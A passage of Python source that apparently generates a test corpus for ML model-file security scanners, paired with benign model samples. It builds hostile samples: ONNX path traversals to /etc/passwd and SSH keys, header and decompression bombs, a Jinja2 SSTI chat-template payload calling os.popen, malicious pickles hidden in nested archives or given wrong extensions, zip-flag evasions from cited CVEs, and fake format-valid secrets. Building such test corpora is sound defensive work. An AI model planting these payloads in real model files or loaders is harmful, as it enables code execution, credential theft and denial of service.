def onnx_tensor(name: str, location: str | None = None, raw: bytes | None = None) -> bytes:
    t = pb_int(1, 4) + pb_int(2, 1) + pb_bytes(8, name)  # dims=[4], FLOAT, name
    if raw is not None:
        t += pb_bytes(9, raw)
    if location is not None:
        ext = [("location", location), ("offset", "0"), ("length", "16")]
        t += b"".join(pb_bytes(13, pb_bytes(1, k) + pb_bytes(2, v)) for k, v in ext)
        t += pb_int(14, 1)  # data_location = EXTERNAL
    return t


def gen_onnx(c: Corpus) -> None:
    fam = "onnx"
    node = pb_bytes(1, "x") + pb_bytes(1, "w") + pb_bytes(2, "y") + pb_bytes(3, "mm") + pb_bytes(4, "MatMul")
    for name, loc, tech in [
        ("relative_traversal.onnx", "../../etc/passwd", "external_data ../../etc/passwd"),
        ("absolute_path.onnx", "/etc/passwd", "external_data absolute path"),
        (
            "deep_traversal.onnx",
            "weights/../../../../../../home/victim/.ssh/id_rsa",
            "traversal after a subdir",
        ),
        ("windows_traversal.onnx", "..\\..\\Windows\\win.ini", "backslash traversal"),
        ("windows_absolute.onnx", "C:\\Windows\\win.ini", "Windows absolute path"),
        ("proc_self_environ.onnx", "/proc/self/environ", "reads the process environment"),
        ("url_location.onnx", "file:///etc/passwd", "URL-ish location"),
    ]:
        c.bad(fam, name, onnx_model([onnx_tensor("w", loc)], [node]), tech)
    c.bad(
        fam,
        "second_initializer_escapes.onnx",
        onnx_model([onnx_tensor("w", "weights.bin"), onnx_tensor("b", "../secrets.bin")], [node]),
        "only the second initializer escapes",
    )


# --------------------------------------------------------------------------------------------
# safetensors / gguf


def safetensors_bytes(
    header: dict[str, Any] | bytes, data: bytes = b"", declared: int | None = None
) -> bytes:
    h = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(h) if declared is None else declared) + h + data


def gguf_kv_str(key: str, val: str) -> bytes:
    return (
        struct.pack("<Q", len(key))
        + key.encode()
        + struct.pack("<I", 8)
        + struct.pack("<Q", len(val))
        + val.encode()
    )


def gguf(
    kvs: list[bytes],
    tensors: list[bytes],
    n_tensors: int | None = None,
    n_kv: int | None = None,
    data: bytes = b"",
) -> bytes:
    head = (
        b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", len(tensors) if n_tensors is None else n_tensors)
    )
    head += struct.pack("<Q", len(kvs) if n_kv is None else n_kv)
    body = head + b"".join(kvs) + b"".join(tensors)
    body += b"\x00" * (-len(body) % 32)
    return body + data


def gguf_tensor(name: str, dims: list[int], ggml_type: int = 0, offset: int = 0) -> bytes:
    return (
        struct.pack("<Q", len(name))
        + name.encode()
        + struct.pack("<I", len(dims))
        + b"".join(struct.pack("<Q", d) for d in dims)
        + struct.pack("<I", ggml_type)
        + struct.pack("<Q", offset)
    )


def gen_safetensors_gguf(c: Corpus) -> None:
    fam = "safetensors-gguf"
    ok = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    c.bad(
        fam,
        "header_len_huge.safetensors",
        safetensors_bytes(ok, b"\x00" * 16, declared=2**62),
        "header length 2^62 (header bomb)",
    )
    c.bad(
        fam,
        "header_len_past_eof.safetensors",
        safetensors_bytes(ok, b"\x00" * 16, declared=10_000_000),
        "header length past end of file",
    )
    c.bad(
        fam,
        "header_bomb_100mb.safetensors",
        safetensors_bytes(b'{"__metadata__":{"a":"' + b"A" * (1 << 20) + b'"}}', declared=100_000_000),
        "declares a 100 MB header",
    )
    c.bad(
        fam,
        "offsets_out_of_range.safetensors",
        safetensors_bytes({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 1 << 40]}}, b"\x00" * 16),
        "data_offsets beyond the file",
    )
    c.bad(
        fam,
        "offsets_reversed.safetensors",
        safetensors_bytes({"w": {"dtype": "F32", "shape": [4], "data_offsets": [16, 0]}}, b"\x00" * 16),
        "end < start",
    )
    c.bad(
        fam,
        "offsets_overlap.safetensors",
        safetensors_bytes(
            {
                "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
            },
            b"\x00" * 24,
        ),
        "overlapping tensors",
    )
    c.bad(
        fam,
        "shape_overflow.safetensors",
        safetensors_bytes(
            {"w": {"dtype": "F32", "shape": [2**32, 2**32, 2**32], "data_offsets": [0, 16]}}, b"\x00" * 16
        ),
        "shape product overflows 64 bits",
    )
    c.bad(
        fam,
        "shape_size_mismatch.safetensors",
        safetensors_bytes({"w": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 16]}}, b"\x00" * 16),
        "shape needs 4 GiB, offsets give 16 bytes",
    )
    c.bad(
        fam,
        "negative_offset.safetensors",
        safetensors_bytes({"w": {"dtype": "F32", "shape": [4], "data_offsets": [-16, 0]}}, b"\x00" * 16),
        "negative offset",
    )
    c.bad(
        fam,
        "deep_nesting_metadata.safetensors",
        safetensors_bytes(b'{"__metadata__":' + b'{"a":' * 5000 + b'"x"' + b"}" * 5000 + b"}"),
        "deeply nested JSON header",
    )
    c.bad(fam, "header_not_json.safetensors", safetensors_bytes(b"{" + b"\xff" * 64), "header is not JSON")
    # GGUF
    good_kv = [gguf_kv_str("general.architecture", "llama")]
    c.bad(fam, "gguf_tensor_count_bomb.gguf", gguf(good_kv, [], n_tensors=2**62), "tensor_count 2^62")
    c.bad(fam, "gguf_kv_count_bomb.gguf", gguf(good_kv, [], n_kv=2**60), "kv_count 2^60")
    bomb_str = struct.pack("<Q", 4) + b"name" + struct.pack("<I", 8) + struct.pack("<Q", 2**61) + b"x"
    c.bad(fam, "gguf_string_length_bomb.gguf", gguf([bomb_str], []), "string length 2^61")
    bomb_arr = (
        struct.pack("<Q", 3) + b"arr" + struct.pack("<I", 9) + struct.pack("<I", 4) + struct.pack("<Q", 2**60)
    )
    c.bad(fam, "gguf_array_length_bomb.gguf", gguf([bomb_arr], []), "array length 2^60")
    c.bad(
        fam,
        "gguf_tensor_offset_out_of_range.gguf",
        gguf(good_kv, [gguf_tensor("w", [4], 0, 1 << 40)], data=b"\x00" * 16),
        "tensor offset past EOF",
    )
    c.bad(
        fam,
        "gguf_dims_overflow.gguf",
        gguf(good_kv, [gguf_tensor("w", [2**40, 2**40], 0, 0)], data=b"\x00" * 16),
        "dims product overflow",
    )
    c.bad(
        fam,
        "gguf_too_many_dims.gguf",
        gguf(good_kv, [gguf_tensor("w", [1] * 64, 0, 0)], data=b"\x00" * 16),
        "n_dims 64 (> GGML_MAX_DIMS)",
    )
    tmpl = (
        "{% for m in messages %}{{ m.content }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].popen('true').read() }}"
    )
    c.bad(
        fam,
        "CVE-2024-34359_chat_template_ssti.gguf",
        gguf(
            [*good_kv, gguf_kv_str("tokenizer.chat_template", tmpl)],
            [gguf_tensor("w", [4], 0, 0)],
            data=b"\x00" * 16,
        ),
        "Jinja2 SSTI in tokenizer.chat_template",
        "CVE-2024-34359 (llama-cpp-python chat_template)",
    )


# --------------------------------------------------------------------------------------------
# containers


def gen_containers(c: Corpus, py7zr: Any) -> None:
    fam = "containers"
    mal = reduce_pickle("os", "system", SHELL)
    mal2 = reduce_pickle("builtins", "exec", PYCODE, proto=2)
    # bombs
    zero_mb = b"\x00" * (1 << 20)

    big = 2048  # MiB
    zbuf = io.BytesIO()
    with (
        zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("weights.bin", "w", force_zip64=True) as f,
    ):
        for _ in range(big):
            f.write(zero_mb)
    c.bad(fam, "zip_bomb_2gib.zip", zbuf.getvalue(), "single-member zip bomb (2 GiB of zeros)")
    # overlapping-entries bomb (Fifield): many central records pointing at one local file
    one = io.BytesIO()
    with zipfile.ZipFile(one, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z, z.open("w.bin", "w") as f:
        for _ in range(64):
            f.write(zero_mb)
    raw = one.getvalue()
    cd_at = raw.find(b"PK\x01\x02")
    eocd_at = raw.find(b"PK\x05\x06")
    cd = raw[cd_at:eocd_at]
    n = 300
    eocd = bytearray(raw[eocd_at:])
    struct.pack_into("<HHII", eocd, 8, n, n, len(cd) * n, cd_at)
    c.bad(
        fam,
        "zip_bomb_overlapping_entries.zip",
        raw[:cd_at] + cd * n + bytes(eocd),
        "300 central-directory entries sharing one 64 MiB member (overlap bomb)",
    )
    c.bad(fam, "gzip_bomb.gz", gzip.compress(b"\x00" * (1 << 30), 9, mtime=0), "gzip of 1 GiB zeros")
    c.bad(fam, "bz2_bomb.pkl.bz2", bz2.compress(b"\x00" * (1 << 30), 9), "bz2 of 1 GiB zeros")
    inner = zip_bytes([(f"{i}.zip", zbuf.getvalue()) for i in range(4)], zipfile.ZIP_STORED)
    c.bad(
        fam,
        "zip_bomb_nested.zip",
        zip_bytes([(f"l{i}.zip", inner) for i in range(2)], zipfile.ZIP_DEFLATED),
        "nested zip bomb (16 GiB total)",
    )
    # nested containers with a malicious pickle deep inside
    c.bad(
        fam,
        "nested_zip_tar_gz.zip",
        zip_bytes([("bundle.tar.gz", gzip.compress(tar_bytes([("model/data.pkl", mal)]), mtime=0))]),
        "zip > tar.gz > pickle",
    )
    c.bad(
        fam,
        "nested_tar_xz_bz2.tar.xz",
        lzma.compress(tar_bytes([("inner.pkl.bz2", bz2.compress(mal))])),
        "tar.xz > bz2 > pickle",
    )
    deep = mal
    for i in range(6):
        deep = zip_bytes([(f"level{i}.bin", deep)]) if i % 2 == 0 else gzip.compress(deep, mtime=0)
    c.bad(fam, "nested_6_levels.zip", deep, "6 levels zip/gzip alternating")
    c.bad(
        fam,
        "model.tar",
        tar_bytes([("model/MLmodel", b"flavors: {}\n"), ("model/model.pkl", mal)]),
        "plain tar with a malicious model.pkl",
    )
    c.bad(fam, "model.tar.gz", tar_bytes([("model/model.pkl", mal2)], "w:gz"), "tar.gz")
    c.bad(fam, "model.tar.bz2", tar_bytes([("model/model.pkl", mal2)], "w:bz2"), "tar.bz2")
    c.bad(fam, "pickle.xz", lzma.compress(mal), "xz-compressed pickle")
    if py7zr is not None:
        p = c.path("malicious", fam, "archive.7z")
        with py7zr.SevenZipFile(p, "w") as z:
            z.writestr(mal, "data.pkl")
        c.record(p, "malicious", fam, "7z with data.pkl", f"py7zr {py7zr.__version__}")
    else:
        c.skipped.append("containers/archive.7z: py7zr not importable")
    # mismatched extensions
    for ext in (".txt", ".json", ".safetensors", ".png", ".onnx", ".h5", ".yaml", ".npy", ".csv", ""):
        c.bad(
            fam,
            f"pickle_named{ext or '_noext'}",
            mal if ext != ".txt" else mal2,
            f"pickle with a {ext or 'missing'} extension",
            "CVE-2025-1889 class: detection by extension",
        )
    c.bad(
        fam,
        "proto0_named.txt",
        g("os", "system") + MARK + s0(SHELL) + TUPLE + REDUCE + STOP,
        "protocol 0 pickle named .txt",
    )
    c.bad(
        fam,
        "CVE-2025-1889_wrong_ext_member.zip",
        zip_bytes([("data.txt", mal)]),
        "zip member with a non-pickle extension",
        "CVE-2025-1889 / picklescan malicious1_wrong_ext.zip",
    )
    # zip tricks (picklescan 2025 advisories)
    z = zip_bytes([("model/config.pkl", mal)])
    for flag, adv in (
        (0x1, "GHSA-w8jq-xcqf-f792 (encrypted bit)"),
        (0x20, "compressed patched data bit"),
        (0x40, "strong encryption bit"),
    ):
        c.bad(
            fam,
            f"CVE-2025-1945_flag_0x{flag:x}.zip",
            patch_zip_flags(z, flag),
            f"zip flag bit 0x{flag:x}",
            f"CVE-2025-1945 (Sonatype): {adv}; torch ignores, Python zipfile refuses",
        )
    c.bad(
        fam,
        "CVE-2025-1945_flag_0x1_torch.pt",
        patch_zip_flags(torch_zip("archive", torch_payload()), 0x1),
        "PyTorch zip with the encrypted bit",
        "CVE-2025-1945",
    )
    z = zip_bytes([("data.pkl", mal)])
    c.bad(
        fam,
        "CVE-2025-1944_name_mismatch.zip",
        z.replace(b"data.pkl", b"datap.kl", 1),
        "local header name differs from the central directory",
        "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82",
    )
    z = zip_bytes([("archive/broken.bin", b"x" * 32), ("archive/data.pkl", torch_payload())])
    b = bytearray(z)
    b[0:4] = b"PK\x09\x09"  # first local header corrupted; central directory intact
    c.bad(
        fam,
        "modelscan-issue354_corrupt_first_entry.pt",
        bytes(b),
        "first member unreadable, data.pkl after it",
        "modelscan issue #354 (fail-open zip iteration)",
    )
    c.bad(
        fam,
        "saferpickle-pr46_spanned_marker.zip",
        b"PK\x07\x08" + zip_bytes([("data.pkl", mal)]),
        "zip prefixed with the spanned-archive marker",
        "google/saferpickle PR #46",
    )
    c.bad(
        fam,
        "zip_with_prefix_junk.zip",
        b"#!/bin/sh\nexit 0\n" + b"\x00" * 100 + zip_bytes([("data.pkl", mal)]),
        "zip with a prepended stub (self-extractor style)",
    )
    c.bad(fam, "zip_in_npz_name.npz", zip_bytes([("data.pkl", mal)]), "zip named .npz with a pickle member")
    c.bad(fam, "tar_member_txt.tar", tar_bytes([("notes.txt", mal)]), "tar member pickle named .txt")
    c.bad(fam, "gzip_pickle_named.bin", gzip.compress(mal, mtime=0), "gzip of a pickle named .bin")


# --------------------------------------------------------------------------------------------
# secrets (obviously fake, format-valid)

_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _b62(n: int, width: int) -> str:
    s = ""
    while n:
        n, r = divmod(n, 62)
        s = _B62[r] + s
    return s.rjust(width, "0")


def github_token(prefix: str = "ghp_") -> str:
    body = "MlflowModelkitFakeToken0000000"[:30]
    return prefix + body + _b62(binascii.crc32(body.encode()), 6)


def fake_pem() -> str:
    try:
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric import ec

        key = ec.generate_private_key(ec.SECP256R1())
        return key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.TraditionalOpenSSL,
            serialization.NoEncryption(),
        ).decode()
    except ImportError:
        rnd = base64.b64encode(random.Random(7).randbytes(120)).decode()
        return (
            "-----BEGIN EC PRIVATE KEY-----\n"
            + "\n".join(rnd[i : i + 64] for i in range(0, len(rnd), 64))
            + "\n-----END EC PRIVATE KEY-----\n"
        )


AWS_ID = "AKIAMLFLOWKITFAKE012"
AWS_SECRET = "mLfLoWmOdElKiTfAkEsEcReT/0123456789abcde"  # 40 chars, base64 alphabet


def gen_secrets(c: Corpus) -> None:
    fam = "secrets"
    c.bad(
        fam,
        "train_aws.py",
        (
            "import boto3\n\n"
            f's3 = boto3.client("s3", aws_access_key_id="{AWS_ID}",\n'
            f'                  aws_secret_access_key="{AWS_SECRET}")\n'
        ).encode(),
        "AWS access key pair in .py",
    )
    c.bad(
        fam,
        "config_github.yaml",
        f"tracking:\n  uri: https://mlflow.example.invalid\n  token: {github_token()}\n".encode(),
        "GitHub classic token in YAML",
    )
    c.bad(
        fam,
        "params_fine_grained.json",
        json.dumps(
            {"lr": 0.01, "gh": "github_pat_11MLFLOWKIT0FAKE0TOKEN_" + "a1B2c3D4e5F6g7H8i9J0" * 3}
        ).encode(),
        "GitHub fine-grained PAT in JSON",
    )
    c.bad(
        fam,
        "deploy_key.json",
        json.dumps({"name": "deploy", "private_key": fake_pem()}).encode(),
        "PEM private key inside JSON",
    )
    c.bad(fam, "id_ed25519.txt", fake_pem().encode(), "PEM private key file")
    c.bad(
        fam,
        "db_url.txt",
        b"DATABASE_URL=postgresql://mlflow:S3cr3t-Fake-Passw0rd@db.example.invalid:5432/mlflow\n",
        "password in a URL",
    )
    c.bad(
        fam,
        "mlflow_tracking.yaml",
        b"backend_store_uri: mysql+pymysql://admin:hunter2-fake-Pw9@mysql.example.invalid/mlflow\n",
        "password in a SQLAlchemy URL",
    )
    c.bad(
        fam,
        "slack_hook.py",
        b'SLACK = "xoxb-123456789012-1234567890123-MlflowKitFakeTokenAbCdEf"\n',
        "Slack bot token",
    )
    c.bad(fam, "hf_token.env", b"HF_TOKEN=hf_MlflowModelkitFakeTokenAbCdEfGhIjK\n", "Hugging Face token")
    c.bad(
        fam,
        "openai.py",
        b'client = OpenAI(api_key="sk-proj-MlflowModelkitFake0123456789abcdefABCDEFghijklmnop")\n',
        "OpenAI-style API key",
    )
    c.bad(
        fam,
        "gcp_key.json",
        json.dumps(
            {
                "type": "service_account",
                "project_id": "fake-project",
                "private_key_id": "0123456789abcdef0123456789abcdef01234567",
                "private_key": fake_pem(),
                "client_email": "bench@fake-project.iam.gserviceaccount.com",
            }
        ).encode(),
        "GCP service-account key",
    )
    c.bad(
        fam,
        "stripe.yaml",
        b"payments:\n  stripe_key: sk_live_MlflowModelkitFake0123456789\n",
        "Stripe live key",
    )
    c.bad(fam, "google_api.txt", b"maps key: AIzaSyMlflowModelkitFake0123456789abcdE\n", "Google API key")
    c.bad(
        fam,
        "high_entropy_assignment.py",
        b'DB_PASSWORD = "q8Zr3vT1xN6mW0pK4sL9yB2cF7hJ5dG"\n'
        b'MODEL_SECRET_KEY = "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA=="\n',
        "high-entropy values assigned to secret names",
    )
    c.bad(
        fam, "mlflow_params/aws_secret_access_key", AWS_SECRET.encode(), "MLflow param file holding a secret"
    )
    c.bad(
        fam,
        "notebook_output.ipynb",
        json.dumps(
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "source": [
                            f'os.environ["AWS_ACCESS_KEY_ID"] = "{AWS_ID}"\n',
                            f'os.environ["AWS_SECRET_ACCESS_KEY"] = "{AWS_SECRET}"\n',
                        ],
                        "outputs": [],
                        "metadata": {},
                        "execution_count": 1,
                    }
                ],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 5,
            }
        ).encode(),
        "AWS keys in a notebook",
    )


# --------------------------------------------------------------------------------------------
# benign samples


def gen_benign(c: Corpus, mods: dict[str, Any]) -> None:
    np = mods.get("numpy")
    torch = mods.get("torch")
    joblib = mods.get("joblib")
    sklearn_ok = mods.get("sklearn") is not None
    rng = random.Random(0)

    # sklearn via joblib
    if joblib is not None and sklearn_ok and np is not None:
        from sklearn.datasets import make_classification
        from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler

        X, y = make_classification(n_samples=200, n_features=8, random_state=0)
        pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(X, y)
        rf = RandomForestClassifier(n_estimators=10, max_depth=4, random_state=0).fit(X, y)
        gb = GradientBoostingClassifier(n_estimators=10, random_state=0).fit(X, y)
        v = f"scikit-learn {mods['sklearn'].__version__}, joblib {joblib.__version__}"
        for name, obj, kw in [
            ("pipeline.joblib", pipe, {}),
            ("pipeline_zlib3.joblib", pipe, {"compress": 3}),
            ("pipeline_gzip.joblib", pipe, {"compress": ("gzip", 3)}),
            ("pipeline_bz2.joblib", pipe, {"compress": ("bz2", 3)}),
            ("pipeline_xz.joblib", pipe, {"compress": ("xz", 3)}),
            ("pipeline_lzma.joblib", pipe, {"compress": ("lzma", 3)}),
            ("random_forest.joblib", rf, {}),
            ("random_forest_zlib.joblib", rf, {"compress": 3}),
            ("gradient_boosting.joblib", gb, {}),
        ]:
            p = c.path("benign", "sklearn", name)
            joblib.dump(obj, p, **kw)
            c.record(p, "benign", "sklearn", f"joblib.dump {kw or 'uncompressed'}", v)
        import pickle as _pickle  # only dump (serialise our own objects); nothing is ever loaded

        for proto in (2, 4, 5):
            p = c.path("benign", "sklearn", f"pipeline_pickle_p{proto}.pkl")
            with open(p, "wb") as f:
                _pickle.dump(pipe, f, protocol=proto)
            c.record(p, "benign", "sklearn", f"pickle.dump protocol {proto}", v)
        p = c.path("benign", "sklearn", "random_forest.pkl")
        with open(p, "wb") as f:
            _pickle.dump(rf, f, protocol=4)
        c.record(p, "benign", "sklearn", "pickle.dump RandomForest", v)
        skops = mods.get("skops")
        if skops is not None:
            import skops.io as sio

            p = c.path("benign", "sklearn", "pipeline.skops")
            sio.dump(pipe, p)
            c.record(p, "benign", "sklearn", "skops.io.dump", f"skops {skops.__version__}")
        gen_mlflow_model(c, mods, pipe)
    else:
        c.skipped.append("benign/sklearn: scikit-learn/joblib not importable")

    # torch
    if torch is not None:
        tv = f"torch {torch.__version__}"
        torch.manual_seed(0)
        net = torch.nn.Sequential(
            torch.nn.Conv2d(3, 4, 3),
            torch.nn.BatchNorm2d(4),
            torch.nn.ReLU(),
            torch.nn.Flatten(),
            torch.nn.Linear(4 * 6 * 6, 10),
            torch.nn.Dropout(0.1),
            torch.nn.LayerNorm(10),
        )
        items: list[tuple[str, Any, dict[str, Any], str]] = [
            ("state_dict.pt", net.state_dict(), {}, "torch.save(state_dict)"),
            ("pytorch_model.bin", net.state_dict(), {}, "torch.save(state_dict) as pytorch_model.bin"),
            ("full_module.pt", net, {}, "torch.save(nn.Sequential) — full module pickle"),
            (
                "state_dict_legacy.pt",
                net.state_dict(),
                {"_use_new_zipfile_serialization": False},
                "legacy non-zip torch.save",
            ),
            ("full_module_legacy.pth", net, {"_use_new_zipfile_serialization": False}, "legacy full module"),
            (
                "mixed_dtypes.pt",
                {
                    "bf16": torch.zeros(3, dtype=torch.bfloat16),
                    "i8": torch.ones(3, dtype=torch.int8),
                    "f16": torch.zeros(2, 2, dtype=torch.float16),
                    "bool": torch.tensor([True]),
                    "i64": torch.arange(5),
                    "c64": torch.zeros(2, dtype=torch.complex64),
                },
                {},
                "tensors of many dtypes",
            ),
            (
                "checkpoint.ckpt",
                {
                    "epoch": 3,
                    "model": net.state_dict(),
                    "optimizer": torch.optim.Adam(net.parameters()).state_dict(),
                    "loss": 0.25,
                },
                {},
                "training checkpoint with optimizer state",
            ),
        ]
        for name, obj, kw, tech in items:
            p = c.path("benign", "torch", name)
            torch.save(obj, p, **kw)
            c.record(p, "benign", "torch", tech, tv)
        try:
            p = c.path("benign", "torch", "torchscript.pt")
            torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU())), p)
            c.record(p, "benign", "torch", "torch.jit.save (TorchScript)", tv)
        except Exception as e:  # pragma: no cover
            c.skipped.append(f"benign/torch/torchscript.pt: {e}")
    else:
        c.skipped.append("benign/torch: torch not importable")

    # numpy
    if np is not None:
        import pickle as _pickle

        nv = f"numpy {np.__version__}"
        arrs = {
            "f32": np.linspace(0, 1, 1000, dtype=np.float32).reshape(10, 100),
            "i64": np.arange(500, dtype=np.int64),
            "u8": np.zeros((8, 8, 3), dtype=np.uint8),
            "f16": np.ones(64, dtype=np.float16),
            "bool": np.array([True, False] * 8),
            "struct": np.zeros(4, dtype=[("x", "<f4"), ("y", "<i4")]),
            "fortran": np.asfortranarray(np.eye(5)),
        }
        for k, a in arrs.items():
            p = c.path("benign", "numpy", f"{k}.npy")
            np.save(p, a)
            c.record(p, "benign", "numpy", "np.save numeric array", nv)
        p = c.path("benign", "numpy", "arrays.npz")
        np.savez(p, **{k: v for k, v in arrs.items() if k != "struct"})
        c.record(p, "benign", "numpy", "np.savez", nv)
        p = c.path("benign", "numpy", "arrays_compressed.npz")
        np.savez_compressed(p, a=arrs["f32"], b=arrs["i64"])
        c.record(p, "benign", "numpy", "np.savez_compressed", nv)
        for proto in (2, 3, 4, 5):
            p = c.path("benign", "numpy", f"array_pickle_p{proto}.pkl")
            with open(p, "wb") as f:
                _pickle.dump(
                    {
                        "w": arrs["f32"],
                        "b": arrs["i64"],
                        "scalar": np.float64(1.5),
                        "dtype": np.dtype("float32"),
                    },
                    f,
                    protocol=proto,
                )
            c.record(p, "benign", "numpy", f"pickle.dump of arrays, protocol {proto}", nv)

    # xgboost-style
    xgb = mods.get("xgboost")
    if xgb is not None and np is not None:
        import pickle as _pickle

        X = np.random.default_rng(0).normal(size=(200, 5))
        yv = (X[:, 0] > 0).astype(int)
        booster = xgb.train({"max_depth": 3, "objective": "binary:logistic"}, xgb.DMatrix(X, label=yv), 5)
        for name, obj in (
            ("booster.pkl", booster),
            ("xgb_classifier.pkl", xgb.XGBClassifier(n_estimators=5, max_depth=2).fit(X, yv)),
        ):
            p = c.path("benign", "xgboost-style", name)
            with open(p, "wb") as f:
                _pickle.dump(obj, f, protocol=4)
            c.record(
                p, "benign", "xgboost-style", f"pickle of {type(obj).__name__}", f"xgboost {xgb.__version__}"
            )
        if joblib is not None:
            p = c.path("benign", "xgboost-style", "booster.joblib")
            joblib.dump(booster, p)
            c.record(p, "benign", "xgboost-style", "joblib.dump(Booster)", f"xgboost {xgb.__version__}")
        for ext in ("json", "ubj"):
            p = c.path("benign", "xgboost-style", f"booster.{ext}")
            booster.save_model(p)
            c.record(p, "benign", "xgboost-style", f"Booster.save_model .{ext}", f"xgboost {xgb.__version__}")
    if np is not None:
        import pickle as _pickle

        state = {
            "learner": {
                "gradient_booster": {
                    "trees": [
                        {
                            "split_indices": np.arange(7, dtype=np.int32),
                            "split_conditions": np.linspace(0, 1, 7, dtype=np.float32),
                            "left_children": np.array([1, 3, 5, -1, -1, -1, -1], dtype=np.int32),
                        }
                        for _ in range(3)
                    ]
                }
            },
            "version": [2, 1, 0],
            "feature_names": ["f0", "f1"],
        }
        p = c.path("benign", "xgboost-style", "booster_state_dict.pkl")
        with open(p, "wb") as f:
            _pickle.dump(state, f, protocol=4)
        c.record(
            p, "benign", "xgboost-style", "pickle of a dict of numpy arrays mimicking a booster state", ""
        )

    # safetensors
    st = mods.get("safetensors")
    if st is not None and np is not None:
        from safetensors.numpy import save_file

        p = c.path("benign", "safetensors", "model.safetensors")
        save_file(
            {"w": np.ones((16, 16), dtype=np.float32), "b": np.zeros(16, dtype=np.float32)},
            str(p),
            metadata={"format": "np"},
        )
        c.record(p, "benign", "safetensors", "safetensors.numpy.save_file", f"safetensors {st.__version__}")
        if torch is not None:
            from safetensors.torch import save_file as tsave

            p = c.path("benign", "safetensors", "torch_model.safetensors")
            tsave(
                {"layer.weight": torch.zeros(8, 8), "layer.bias": torch.zeros(8, dtype=torch.bfloat16)},
                str(p),
                metadata={"format": "pt"},
            )
            c.record(
                p, "benign", "safetensors", "safetensors.torch.save_file", f"safetensors {st.__version__}"
            )
    hdr = {
        "__metadata__": {"format": "pt"},
        "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "e": {"dtype": "F32", "shape": [0], "data_offsets": [16, 16]},
    }
    h = json.dumps(hdr).encode()
    h += b" " * (-len(h) % 8)
    c.good(
        "safetensors",
        "handmade.safetensors",
        struct.pack("<Q", len(h)) + h + b"\x00" * 16,
        "hand-written per spec (incl. an empty tensor)",
    )

    # benign formats hand-built per spec (no heavyweight library here)
    gen_benign_handmade(c, mods)
    # text
    gen_benign_text(c, rng)


def gen_mlflow_model(c: Corpus, mods: dict[str, Any], pipe: Any) -> None:
    kind = "mlflow-model"
    mlflow = mods.get("mlflow")
    if mlflow is not None:
        import mlflow.sklearn

        d = c.out / "benign" / kind / "sklearn_model"
        mlflow.sklearn.save_model(pipe, str(d), serialization_format="pickle")
        for f in sorted(d.rglob("*")):
            if f.is_file():
                c.record(f, "benign", kind, "mlflow.sklearn.save_model", f"mlflow {mlflow.__version__}")
        if mods.get("skops") is not None:
            d = c.out / "benign" / kind / "sklearn_model_skops"
            try:
                mlflow.sklearn.save_model(pipe, str(d), serialization_format="skops")
                for f in sorted(d.rglob("*")):
                    if f.is_file():
                        c.record(
                            f,
                            "benign",
                            kind,
                            "mlflow.sklearn.save_model skops",
                            f"mlflow {mlflow.__version__}",
                        )
            except Exception as e:
                c.skipped.append(f"benign/mlflow-model/sklearn_model_skops: {e}")
        return
    import pickle as _pickle

    d = c.out / "benign" / kind / "sklearn_model_handwritten"
    d.mkdir(parents=True, exist_ok=True)
    skv = mods["sklearn"].__version__
    files = {
        "MLmodel": (
            "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n"
            "      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n"
            "    model_path: model.pkl\n"
            "    predict_fn: predict\n    python_version: 3.11.7\n  sklearn:\n    code: null\n"
            "    pickled_model: model.pkl\n    serialization_format: cloudpickle\n"
            f"    sklearn_version: {skv}\nmlflow_version: 3.17.0\n"
            "model_uuid: 0f3a5c8e2b7d4e1f9a6c3b8d5e2f7a1c\nutc_time_created: '2026-01-01 00:00:00.000000'\n"
        ),
        "conda.yaml": (
            "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.0\n- pip:\n"
            f"  - mlflow==3.17.0\n  - scikit-learn=={skv}\nname: mlflow-env\n"
        ),
        "python_env.yaml": (
            "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n"
        ),
        "requirements.txt": f"mlflow==3.17.0\nscikit-learn=={skv}\ncloudpickle==3.1.1\n",
    }
    for name, text in files.items():
        (d / name).write_text(text)
    with open(d / "model.pkl", "wb") as f:
        _pickle.dump(pipe, f, protocol=4)
    for f in sorted(d.iterdir()):
        c.record(
            f,
            "benign",
            kind,
            "MLflow sklearn model directory (written by hand, model.pkl by pickle)",
            "mlflow not importable in the corpus venv",
        )


def gen_benign_handmade(c: Corpus, mods: dict[str, Any]) -> None:
    h5py = mods.get("h5py")
    # keras: a .keras zip without Lambda layers, with real-looking config
    cfg = keras_model_config(
        [dense("d1"), keras_layer("Dropout", {"name": "drop", "rate": 0.1}), dense("d2")]
    )
    weights = b""
    if h5py is not None:
        tmp = c.out / ".tmp-benign-weights.h5"
        with h5py.File(tmp, "w") as f:
            f.create_dataset("layers/dense/vars/0", data=[[0.0, 0.0]] * 4)
        weights = tmp.read_bytes()
        tmp.unlink()
        p = c.path("benign", "keras", "dense_model.h5")
        h5_with_config(
            h5py,
            p,
            {
                "class_name": "Sequential",
                "config": {
